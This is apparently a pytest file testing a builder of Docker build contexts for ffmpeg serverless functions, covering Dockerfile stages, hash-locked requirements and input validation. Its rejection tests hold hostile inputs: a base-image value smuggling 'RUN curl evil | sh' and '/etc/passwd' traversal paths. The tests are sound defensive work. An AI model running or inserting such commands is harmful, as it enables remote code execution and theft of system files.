"""The functions' container build contexts, checked as files (no Docker engine here)."""
import ast
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import tomllib

from generator.deploy.build import TEMPLATES, BuildError, build_and_push, context_tag, write_build_context

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def script(tmp_path):
    path = tmp_path / "ffmpeg-script.sh"
    path.write_bytes(b'#!/bin/bash\necho "SCRIPT: $INPUT_FILE_PATH"\n')
    return path


def write(dest, script, **overrides):
    arguments = {"function_name": "scar-av-workflow-ffmpeg", "base_image": "jrottenberg/ffmpeg:4.1-ubuntu"}
    arguments.update(overrides)
    arguments.setdefault("script_folder", Path(script).parent)
    return write_build_context(dest, script=script, **arguments)


def final_stage(dockerfile: str) -> list[str]:
    lines = dockerfile.splitlines()
    last_from = max(i for i, line in enumerate(lines) if line.startswith("FROM "))
    return lines[last_from:]


def test_context_holds_dockerfile_script_runtime_and_handlers(tmp_path, script):
    dest = tmp_path / "ctx"
    files = write(dest, script)
    relative = [path.relative_to(dest).as_posix() for path in files]
    assert relative == sorted(relative)
    for expected in ("Dockerfile", "requirements.txt", "bin/avgen-handler", "script.sh",
                     "avgen/lambda_src/core.py", "avgen/lambda_src/handler.py", "avgen/batch_jobs/__init__.py",
                     "avgen/batch_jobs/entrypoint.py", "avgen/batch_jobs/handlers/__init__.py"):
        assert expected in relative
    assert not any("__pycache__" in name or name.endswith(".pyc") for name in relative)
    assert "avgen/batch_jobs/build.py" not in relative  # the host-side builder stays out of the image
    assert (dest / "script.sh").read_bytes() == script.read_bytes()
    assert (dest / "avgen/lambda_src/core.py").read_bytes() == (REPO / "lambda_src/core.py").read_bytes()


def test_final_stage_is_the_functions_image_plus_opt_avgen(tmp_path, script):
    write(tmp_path, script)
    dockerfile = (tmp_path / "Dockerfile").read_text()
    stage = final_stage(dockerfile)
    assert stage[0] == "FROM jrottenberg/ffmpeg:4.1-ubuntu"
    assert "COPY --from=avgen-runtime /opt/avgen /opt/avgen" in stage
    assert "COPY --chmod=0755 script.sh /opt/avgen/script.sh" in stage
    assert 'ENTRYPOINT ["/opt/avgen/python/bin/python3", "-I", "-m"]' in stage
    assert 'CMD ["awslambdaric", "lambda_src.handler.handler"]' in stage
    body = "\n".join(line for line in stage if not line.startswith("#"))
    # Nothing of the base image runs: no shell, no package manager, no use of its Python. The one step that
    # runs is avgen's own Python (exec form), laying out SCAR's tool stand-ins where the image lacks the tools.
    assert [line for line in stage if line.startswith("RUN ")] == [
        'RUN ["/opt/avgen/python/bin/python3", "-I", "-m", "lambda_src.scar_layout"]']
    assert "pip" not in body
    assert "AVGEN_SCRIPT_WORKDIR=." in body  # scripts run in the image's WORKDIR, as in SCAR
    # The base image's working folder and user are kept (SCAR scripts rely on the WORKDIR).
    assert not any(line.startswith(("WORKDIR", "USER")) for line in stage)
    # Our folder goes at the end of PATH, so the image's own tools win.
    assert ':/opt/avgen/bin"' in body and "AVGEN_SCRIPT=/opt/avgen/script.sh" in body
    assert 'io.avgen.function="scar-av-workflow-ffmpeg"' in body


def test_builder_stage_makes_a_relocatable_python_and_installs_the_locked_runtime(tmp_path, script):
    """What tests/images proves by building and running: here, what the Dockerfile says it does."""
    write(tmp_path, script)
    dockerfile = (tmp_path / "Dockerfile").read_text()
    assert not dockerfile.startswith("# syntax=")  # a syntax line makes BuildKit pull a frontend image
    builder = dockerfile.split("FROM jrottenberg/ffmpeg")[0]
    assert "FROM ${BUILDER_IMAGE} AS avgen-runtime" in builder and "ARG BUILDER_IMAGE=debian:bookworm-slim" in builder
    assert "sh /tmp/relocate-python.sh /opt/avgen/python" in builder
    # Wheels only, the locked set with its hashes; GPU images add their lock, replacing the CPU onnxruntime
    assert "--only-binary :all: --require-hashes" in builder
    assert 'install --target "$site" -r /opt/avgen/requirements.lock' in builder
    assert 'if [ "${VARIANT}" = gpu ]' in builder and "-r /opt/avgen/requirements-gpu.lock" in builder
    # the CA bundle of a TLS-inspecting proxy is a build secret, never a file of the image
    assert "--mount=type=secret,id=ca_bundle" in builder and "COPY ca" not in builder
    assert "import awslambdaric, boto3, lambda_src.handler, batch_jobs.entrypoint" in builder
    relocate = (tmp_path / "relocate-python.sh").read_text()
    assert "patchelf --set-interpreter" in relocate and "ld-linux-x86-64.so.2" in relocate
    launcher = (tmp_path / "bin/avgen-handler").read_text()
    assert launcher.startswith("#!/opt/avgen/python/bin/python3 -I\n")
    assert "from batch_jobs.handlers.cli import main" in launcher


def test_requirements_match_the_media_extra_of_pyproject(tmp_path, script):
    write(tmp_path, script)
    wanted = [line for line in (tmp_path / "requirements.txt").read_text().splitlines()
              if line and not line.startswith("#")]
    media = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]["media"]
    # the image adds the runtime's own packages, and a static ffmpeg for bases without one
    assert [entry.split("#")[0].strip() for entry in media] == [
        line for line in wanted if not line.startswith(("boto3", "awslambdaric", "imageio-ffmpeg"))]
    assert any(line.startswith("awslambdaric") for line in wanted)
    assert any(line.startswith("opencv-python-headless") and "<=4." in line for line in wanted)


@pytest.mark.parametrize("name", ["requirements", "requirements-gpu"])
def test_the_image_locks_pin_every_requirement_with_hashes(tmp_path, script, name):
    write(tmp_path, script)
    lines = (TEMPLATES / f"{name}.txt").read_text().splitlines()
    wanted = {re.split(r"[<>=!\[ ]", line)[0].lower() for line in lines if line and not line.startswith("#")}
    lock = (tmp_path / f"{name}.lock").read_text()
    pinned = dict(re.findall(r"^([a-z0-9_.-]+)==(\S+) \\$", lock, re.MULTILINE))
    assert wanted <= set(pinned), wanted - set(pinned)
    # every pinned package carries at least one hash: pip and uv then refuse any other file
    assert lock.count("==") == len(pinned) and all(
        "--hash=sha256:" in block for block in re.split(r"^(?=[a-z0-9_.-]+==)", lock, flags=re.MULTILINE)[1:])


def test_same_inputs_give_the_same_bytes(tmp_path, script):
    first = write(tmp_path / "a", script)
    second = write(tmp_path / "b", script)
    assert [p.relative_to(tmp_path / "a") for p in first] == [p.relative_to(tmp_path / "b") for p in second]
    assert all(a.read_bytes() == b.read_bytes() for a, b in zip(first, second, strict=True))
    assert context_tag(tmp_path / "a", first) == context_tag(tmp_path / "b", second)
    other = write(tmp_path / "c", script, base_image="grycap/audio2srt:mini")
    assert context_tag(tmp_path / "c", other) != context_tag(tmp_path / "a", first)


def test_rewriting_drops_stale_sources_and_keeps_other_files(tmp_path, script):
    write(tmp_path, script)
    (tmp_path / "avgen/lambda_src/removed_module.py").write_text("")
    (tmp_path / "notes.txt").write_text("mine")
    write(tmp_path, script)
    assert not (tmp_path / "avgen/lambda_src/removed_module.py").exists()
    assert (tmp_path / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("field, value", [
    ("base_image", "ubuntu\nRUN curl evil | sh"),
    ("base_image", "ubuntu latest"),
    ("base_image", ""),
    ("function_name", "bad name"),
    ("function_name", "-leading-dash"),
])
def test_values_that_would_break_the_dockerfile_are_refused(tmp_path, script, field, value):
    with pytest.raises(ValueError):
        write(tmp_path, script, **{field: value})


def test_a_missing_script_is_refused(tmp_path):
    with pytest.raises(FileNotFoundError):
        write(tmp_path, tmp_path / "nope.sh")


@pytest.mark.parametrize("script", ["/etc/passwd", "../../../../../../../../etc/passwd", "fifo.sh", "link.sh"])
def test_only_a_regular_file_of_the_workflow_folder_is_copied(tmp_path, script):
    """Whatever validation said: a host file (also through `..` or a symlink) or a FIFO never goes in."""
    workflow_folder = tmp_path / "workflow"
    workflow_folder.mkdir()
    os.mkfifo(workflow_folder / "fifo.sh")
    (workflow_folder / "link.sh").symlink_to("/etc/passwd")
    dest = tmp_path / "ctx"
    with pytest.raises(ValueError, match="nothing was copied"):
        write(dest, workflow_folder / script, script_folder=workflow_folder)
    assert not dest.exists()


@pytest.fixture(autouse=True)
def plain_docker(monkeypatch):
    """The fake answers to `docker`, whatever client this machine names in $AVGEN_DOCKER (CI names one)."""
    monkeypatch.delenv("AVGEN_DOCKER", raising=False)


class FakeDocker:
    """Records docker commands; answers like an engine that builds and pushes."""

    def __init__(self, *, engine=True, fail_on=None, buildx=True):
        self.commands, self.engine, self.fail_on, self.buildx = [], engine, fail_on, buildx

    def __call__(self, command, **kwargs):
        verb = command[1]
        if command[1:] == ["build", "--help"]:  # what the client can do: buildx knows --provenance
            return subprocess.CompletedProcess(command, 0, "  --provenance string\n" if self.buildx else "", "")
        self.commands.append(command)
        if verb == "info" and not self.engine:
            return subprocess.CompletedProcess(command, 1, "", "Cannot connect to the Docker daemon")
        if verb == self.fail_on:
            return subprocess.CompletedProcess(command, 1, "", "step 3/9: no space left on device")
        out = ""
        if verb == "image":
            out = "docker.io/other@sha256:111\n123.dkr.ecr.us-east-1.amazonaws.com/fn@sha256:abc\n"
        return subprocess.CompletedProcess(command, 0, out, "")


REPOSITORY = "123.dkr.ecr.us-east-1.amazonaws.com/fn"


def test_build_and_push_returns_the_pushed_digest(tmp_path):
    docker = FakeDocker()
    assert build_and_push(tmp_path, REPOSITORY, "ctx-1", run=docker) == f"{REPOSITORY}@sha256:abc"
    assert [c[1] for c in docker.commands] == ["info", "build", "push", "image"]
    build = docker.commands[1]
    assert "--provenance=false" in build and build[build.index("--platform") + 1] == "linux/amd64"
    assert build[-1] == str(tmp_path) and f"{REPOSITORY}:ctx-1" in build
    assert docker.commands[2] == ["docker", "push", f"{REPOSITORY}:ctx-1"]


def test_a_client_without_buildx_builds_without_the_provenance_flag(tmp_path):
    """Docker 20.10's client attaches no attestation and refuses --provenance."""
    docker = FakeDocker(buildx=False)
    assert build_and_push(tmp_path, REPOSITORY, "ctx-1", run=docker) == f"{REPOSITORY}@sha256:abc"
    assert not any(arg.startswith("--provenance") for arg in docker.commands[1])


def test_without_a_docker_engine_nothing_is_built(tmp_path):
    docker = FakeDocker(engine=False)
    assert build_and_push(tmp_path, REPOSITORY, "t", run=docker) is None
    assert [c[1] for c in docker.commands] == ["info"]


def test_a_failed_build_says_why(tmp_path):
    with pytest.raises(BuildError, match="no space left on device"):
        build_and_push(tmp_path, REPOSITORY, "t", run=FakeDocker(fail_on="build"))


def test_the_runtime_imports_only_the_standard_library_and_boto3():
    """What goes into images must not need anything the image's Python lacks."""
    allowed = set(sys.stdlib_module_names) | {"boto3", "botocore", "lambda_src", "batch_jobs"}
    sources = sorted((REPO / "lambda_src").rglob("*.py")) + [REPO / "batch_jobs/entrypoint.py"]
    for source in sources:
        for node in ast.walk(ast.parse(source.read_text())):
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.level == 0:
                names = [node.module]
            else:
                continue
            for name in names:
                assert name.split(".")[0] in allowed, f"{source.name} imports {name}"
